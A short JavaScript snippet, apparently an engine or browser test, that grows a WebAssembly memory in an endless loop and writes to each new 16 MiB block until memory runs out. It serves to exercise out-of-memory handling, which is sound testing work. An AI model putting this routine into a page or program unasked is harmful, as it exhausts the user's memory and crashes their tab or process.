// Grows the memory of WebAssembly, outside the heap, and touches all of it.
const memory = new WebAssembly.Memory({ initial: 1, maximum: 65536 });
while (true) {
  memory.grow(256);
  new Uint8Array(memory.buffer, memory.buffer.byteLength - 2 ** 24).fill(1);
}
